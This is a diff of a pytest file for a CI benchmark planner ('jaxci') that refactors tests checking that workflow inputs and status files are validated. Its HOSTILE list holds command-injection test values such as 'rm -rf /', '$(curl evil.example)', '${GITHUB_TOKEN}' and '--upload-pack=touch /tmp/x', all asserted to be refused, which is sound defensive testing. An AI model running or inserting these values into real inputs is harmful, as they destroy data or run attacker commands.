@@ -7,7 +7,7 @@ import os
 import re
 import subprocess
 import sys
-from pathlib import Path
+import tomllib
 
 import pytest
 
@@ -19,73 +19,43 @@ from jaxci.workflows.jobcost import timeout_minutes
 from jaxci.workflows.plan import bench_requirements, check_suite_filters, plan, suite_regex, upgrade_plan
 from jaxci.workflows.status import RunStatus, SuiteOutcome, SuiteState
 from jaxci.workflows.suites import suites
+from tests.workflowutil import REPO, key_values
 
-REPO = Path(__file__).resolve().parent.parent
 CATALOGUE = load_catalogue()
 DEFAULTS = catalogue_defaults()
 SHA = "0123456789abcdef0123456789abcdef01234567"
 
-# (input, hostile value): every one must be refused, with the input named in the message.
-HOSTILE = [
-    ("families", "g4dn.2xlarge;rm -rf /"),
-    ("families", "$(curl evil.example)"),
-    ("families", "`id`"),
-    ("families", "g4dn.2xlarge\nc7i.2xlarge"),
-    ("families", "p5.48xlarge"),
-    ("families", "g4dn.2xlarge/spot=true"),
-    ("families", "g4dn.2xlarge/image=attacker-ami"),
-    ("bench", "$(id)"),
-    ("bench", "${GITHUB_TOKEN}"),
-    ("bench", "dense; curl x"),
-    ("bench", "dense`id`"),
-    ("bench", "dense\nloops"),
-    ("bench", "dense loops"),
-    ("bench", "--help"),
-    ("bench", "-x"),
-    ("bench", "dense&&id"),
-    ("bench", "dense>out"),
-    ("bench", "dense'"),
-    ("bench", 'dense"'),
-    ("bench", "dense(("),
-    ("bench", "a" * 201),
-    ("commits", "$(id)"),
-    ("commits", "main;id"),
-    ("commits", "`id`"),
-    ("commits", "main\nid"),
-    ("commits", "--upload-pack=touch /tmp/x"),
-    ("commits", "-q"),
-    ("commits", "main..evil"),
-    ("commits", "HEAD@{1}"),
-    ("commits", "refs/heads/x.lock"),
-    ("commits", " ".join(["HEAD"] * 11)),
-    ("scale", "full; id"),
-    ("scale", "huge"),
-]
+# Every hostile value must be refused, with the input named in the message.
+HOSTILE = [(name, value) for name, values in {
+    "families": ["g4dn.2xlarge;rm -rf /", "$(curl evil.example)", "`id`", "g4dn.2xlarge\nc7i.2xlarge", "p5.48xlarge",
+                 "g4dn.2xlarge/spot=true", "g4dn.2xlarge/image=attacker-ami"],
+    "bench": ["$(id)", "${GITHUB_TOKEN}", "dense; curl x", "dense`id`", "dense\nloops", "dense loops", "--help", "-x",
+              "dense&&id", "dense>out", "dense'", 'dense"', "dense((", "a" * 201],
+    "commits": ["$(id)", "main;id", "`id`", "main\nid", "--upload-pack=touch /tmp/x", "-q", "main..evil", "HEAD@{1}",
+                "refs/heads/x.lock", " ".join(["HEAD"] * 11)],
+    "scale": ["full; id", "huge"],
+    "run_id": ["1; id", "$(id)", "12\n3", ""],
+}.items() for value in values]
 
 
-def _plan(**kw):
-    args = dict(families="", scale="full", bench="", commits="", run_id="42")
-    args.update(kw)
-    return plan(args["families"], args["scale"], args["bench"], args["commits"], args["run_id"],
-                catalogue=CATALOGUE, defaults=DEFAULTS, suite_names=["dense", "loops"])
+def _plan(families="", scale="full", bench="", commits="", run_id="42"):
+    return plan(families, scale, bench, commits, run_id, catalogue=CATALOGUE, defaults=DEFAULTS,
+                suite_names=["dense", "loops"])
+
+
+def _inputs_cli(*args):
+    return subprocess.run([sys.executable, "-m", "jaxci", "inputs", *map(str, args)], capture_output=True, text=True)
 
 
 @pytest.mark.parametrize("name,value", HOSTILE, ids=[f"{n}:{v[:20]!r}" for n, v in HOSTILE])
 def test_hostile_input_is_refused(name, value):
-    with pytest.raises(InputError, match=f"'{name}'"):
+    with pytest.raises(InputError, match="run id" if name == "run_id" else f"'{name}'"):
         _plan(**{name: value})
-
-
-@pytest.mark.parametrize("run_id", ["1; id", "$(id)", "12\n3", ""])
-def test_hostile_run_id_is_refused(run_id):
-    with pytest.raises(InputError, match="run id"):
-        _plan(run_id=run_id)
 
 
 def test_cli_refuses_and_writes_no_output(tmp_path):
     out = tmp_path / "github_output"
-    proc = subprocess.run([sys.executable, "-m", "jaxci", "inputs", "plan", "--families=$(id)", "--run-id=1",
-                           f"--github-output={out}"], capture_output=True, text=True)
+    proc = _inputs_cli("plan", "--families=$(id)", "--run-id=1", f"--github-output={out}")
     assert proc.returncode == 2
     assert "refused" in proc.stderr and "'families'" in proc.stderr
     assert not out.exists()
@@ -93,12 +63,10 @@ def test_cli_refuses_and_writes_no_output(tmp_path):
 
 def test_cli_writes_single_line_outputs(tmp_path):
     out = tmp_path / "github_output"
-    proc = subprocess.run([sys.executable, "-m", "jaxci", "inputs", "plan", "--families=g4dn.2xlarge,ubuntu-latest",
-                           "--bench=^dispatch.TinyOp", "--commits=HEAD,main", "--scale=ci", "--run-id=77",
-                           f"--github-output={out}"], capture_output=True, text=True)
+    proc = _inputs_cli("plan", "--families=g4dn.2xlarge,ubuntu-latest", "--bench=^dispatch.TinyOp",
+                       "--commits=HEAD,main", "--scale=ci", "--run-id=77", f"--github-output={out}")
     assert proc.returncode == 0, proc.stderr
-    lines = out.read_text().splitlines()
-    outputs = dict(line.split("=", 1) for line in lines)
+    outputs = key_values(out.read_text())
     assert set(outputs) == {"matrix", "scale", "publish", "commits", "suite_filters"}
     matrix = json.loads(outputs["matrix"])
     assert [e["family"] for e in matrix["include"]] == ["g4dn.2xlarge", "ubuntu-latest"]
@@ -180,19 +148,6 @@ def test_suites_are_the_benchmark_modules():
     assert {"dense", "dispatch", "loops"} <= set(names) and "common" not in names
 
 
-def test_status_records_the_interrupted_suite(tmp_path):
-    path = tmp_path / "s.json"
-    run_status.init(path, "g4dn.2xlarge", spot=True)
-    run_status.start(path, "dense")
-    run_status.end(path, "dense", 0)
-    run_status.start(path, "loops")  # the job is cancelled here (timeout, or the user)
-    status = run_status.finish(path)
-    assert status.suites == {"dense": SuiteOutcome(SuiteState.OK), "loops": SuiteOutcome(SuiteState.INTERRUPTED)}
-    assert status.interrupted == "loops" and status.running is None and status.finished
-    assert json.loads(path.read_text())["suites"]["loops"].startswith("interrupted")  # the text on disk
-    assert family_outcome({"spot": True}, status)[0] == "interrupted"
-
-
 def test_status_distinguishes_failure_from_no_selection(tmp_path):
     path = tmp_path / "s.json"
     run_status.init(path, "c7i.2xlarge", spot=False)
@@ -240,15 +195,13 @@ def test_collect_refuses_a_family_outside_the_catalogue(tmp_path):
 
 def test_status_cli_fails_the_job_only_on_a_failed_suite(tmp_path):
     status, log = tmp_path / "s.json", tmp_path / "dense.log"
-    jaxci = [sys.executable, "-m", "jaxci", "inputs", "status", str(status)]
-    assert subprocess.run(jaxci + ["init", "--family=c7i.2xlarge", "--spot=false"]).returncode == 0
+    assert _inputs_cli("status", status, "init", "--family=c7i.2xlarge", "--spot=false").returncode == 0
     log.write_text("No benchmarks selected")
-    assert subprocess.run(jaxci + ["end", "--suite=dense", "--exit=1", f"--log={log}"]).returncode == 0
-    assert subprocess.run(jaxci + ["end", "--suite=loops", "--exit=2"]).returncode == 0
-    assert subprocess.run(jaxci + ["end", "--suite=dispatch", "--exit=1"]).returncode == 1
-    assert subprocess.run(jaxci + ["start", "--suite=$(id)"], capture_output=True).returncode == 2
-    assert subprocess.run(jaxci[:-1] + [str(tmp_path / "t.json"), "init", "--family=nope", "--spot=true"],
-                          capture_output=True).returncode == 2
+    assert _inputs_cli("status", status, "end", "--suite=dense", "--exit=1", f"--log={log}").returncode == 0
+    assert _inputs_cli("status", status, "end", "--suite=loops", "--exit=2").returncode == 0
+    assert _inputs_cli("status", status, "end", "--suite=dispatch", "--exit=1").returncode == 1
+    assert _inputs_cli("status", status, "start", "--suite=$(id)").returncode == 2
+    assert _inputs_cli("status", tmp_path / "t.json", "init", "--family=nope", "--spot=true").returncode == 2
 
 
 # ---- filters that backtrack without bound; status files a cancel can break ------------------
@@ -277,27 +230,27 @@ def test_accepted_filters_match_a_long_name_quickly():
     subprocess.run([sys.executable, "-c", code, *worst], check=True, timeout=60)
 
 
-def _status_cli(*args):
-    return subprocess.run([sys.executable, "-m", "jaxci", "inputs", "status", *map(str, args)],
-                          capture_output=True, text=True)
-
-
 def test_status_end_needs_a_suite_and_an_exit(tmp_path):
     status = tmp_path / "s.json"
-    assert _status_cli(status, "init", "--family=c7i.2xlarge", "--spot=false").returncode == 0
+    assert _inputs_cli("status", status, "init", "--family=c7i.2xlarge", "--spot=false").returncode == 0
     for args, message in [((), "--suite is required"), (("--suite=dense",), "--exit is required"),
                           (("--suite=dense\nx", "--exit=0"), "is not a suite name")]:
-        proc = _status_cli(status, "end", *args)
+        proc = _inputs_cli("status", status, "end", *args)
         assert proc.returncode == 2 and message in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
     assert json.loads(status.read_text())["suites"] == {}  # nothing recorded as "null"
 
 
-@pytest.mark.parametrize("content", ["", "{", "[]", '{"family": "x"}', '{"family": "x", "suites": {"a": null}}'])
-def test_a_broken_status_file_is_refused_by_status(tmp_path, content):
+@pytest.mark.parametrize("content", ["", "{", "[]", '{"family": "x"}', '{"family": "x", "suites": {"a": null}}'] + [
+    json.dumps({"family": "c7i.2xlarge", "suites": suites_, "running": None})
+    for suites_ in ({"dense": "whatever"}, {"dense": "failed: asv exit"}, {"de|nse": "ok"},
+                    {"dense": "failed: asv exit 1; | injected |"})])
+def test_a_broken_status_or_one_no_writer_produces_is_refused(tmp_path, content):
     status = tmp_path / "s.json"
     status.write_text(content)
-    proc = _status_cli(status, "finish")
+    proc = _inputs_cli("status", status, "finish")
     assert proc.returncode == 2 and f"status file {status}" in proc.stderr and "Traceback" not in proc.stderr
+    with pytest.raises(InputError):
+        run_status.load(status)
 
 
 def test_status_is_written_atomically(tmp_path, monkeypatch):
@@ -336,8 +289,7 @@ def test_collect_reports_a_broken_status_and_still_collects_the_rest(tmp_path):
 
 @pytest.mark.parametrize("matrix", ["[]", "{}", '{"include": 3}', '{"include": [1]}', "null", '"x"'])
 def test_collect_refuses_a_matrix_of_the_wrong_shape(tmp_path, matrix):
-    proc = subprocess.run([sys.executable, "-m", "jaxci", "inputs", "collect", "--matrix", matrix, "--incoming",
-                           str(tmp_path)], capture_output=True, text=True)
+    proc = _inputs_cli("collect", "--matrix", matrix, "--incoming", tmp_path)
     assert proc.returncode == 2 and "--matrix: expected the plan's matrix" in proc.stderr, proc.stderr
 
 
@@ -350,26 +302,15 @@ def test_status_round_trips_through_its_file(tmp_path):
                              ("nuts", 137, "")]:
         run_status.start(path, suite)
         run_status.end(path, suite, code, log)
-    run_status.start(path, "kalman")
+    run_status.start(path, "kalman")  # the job is cancelled here (timeout, or the user)
     status = run_status.finish(path)
-    assert run_status.load(path) == status
+    assert run_status.load(path) == status and family_outcome({"spot": True}, status)[0] == "interrupted"
     assert json.loads(path.read_text()) == {
         "family": "g4dn.2xlarge", "spot": True, "running": None, "finished": True, "interrupted": "kalman",
         "suites": {"dense": "ok", "loops": "completed; some benchmarks failed or timed out (results saved)",
                    "host": "not selected by the filter", "nuts": "failed: asv exit 137",
                    "kalman": "interrupted (job cancelled or timed out during this suite)"}}
     assert [s for s, o in status.suites.items() if o.failed] == ["nuts"]
-
-
-@pytest.mark.parametrize("suites_", [{"dense": "whatever"}, {"dense": "failed: asv exit"}, {"de|nse": "ok"},
-                                     {"dense": "failed: asv exit 1; | injected |"}])
-def test_a_status_no_writer_produces_is_refused(tmp_path, suites_):
-    status = tmp_path / "s.json"
-    status.write_text(json.dumps({"family": "c7i.2xlarge", "suites": suites_, "running": None}))
-    proc = _status_cli(status, "finish")
-    assert proc.returncode == 2 and f"status file {status}" in proc.stderr and "Traceback" not in proc.stderr
-    with pytest.raises(InputError):
-        run_status.load(status)
 
 
 def test_outcomes_of_asv_exits():
@@ -396,21 +337,17 @@ def test_suites_are_the_modules_that_define_benchmarks(tmp_path):
 
 
 def test_suites_command_prints_the_list():
-    proc = subprocess.run([sys.executable, "-m", "jaxci", "inputs", "suites"], capture_output=True, text=True)
+    proc = _inputs_cli("suites")
     assert proc.returncode == 0 and proc.stdout.split() == suites()
 
 
 def test_runner_requirements_come_from_the_bench_extra():
-    import tomllib
-
     extra = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]["optional-dependencies"]["bench"]
     (asv,) = [r for r in extra if r.startswith("asv")]
     assert bench_requirements(["asv"]) == [asv] and asv.startswith("asv==")
-    proc = subprocess.run([sys.executable, "-m", "jaxci", "inputs", "requirements", "asv", "virtualenv",
-                           "nvidia_ml_py"], capture_output=True, text=True)
+    proc = _inputs_cli("requirements", "asv", "virtualenv", "nvidia_ml_py")
     assert proc.returncode == 0 and proc.stdout.splitlines()[0] == asv and len(proc.stdout.splitlines()) == 3
-    proc = subprocess.run([sys.executable, "-m", "jaxci", "inputs", "requirements", "pytest"],
-                          capture_output=True, text=True)
+    proc = _inputs_cli("requirements", "pytest")
     assert proc.returncode == 2 and "'pytest' not in the bench extra" in proc.stderr
 
 
@@ -472,8 +409,7 @@ def test_run_suites_records_the_status_as_the_bench_workflow_needs(tmp_path):
 
 def test_every_documented_suite_filter_passes_run_suites_check():
     """A capture command in the docs is copied as written: run-suites.sh must accept its JAXCI_SUITE_FILTERS
-    (results/README.md's lab-epyc-2c command was refused once the check arrived). bad-input.md quotes a bad
-    one on purpose."""
+    (bad-input.md quotes a bad one on purpose)."""
     docs = [REPO / "README.md", REPO / "results" / "README.md",
             *(p for p in (REPO / "docs").rglob("*.md") if p.name != "bad-input.md")]
     found = [(p, m[1]) for p in docs for m in re.finditer(r"JAXCI_SUITE_FILTERS='([^']+)'", p.read_text())]
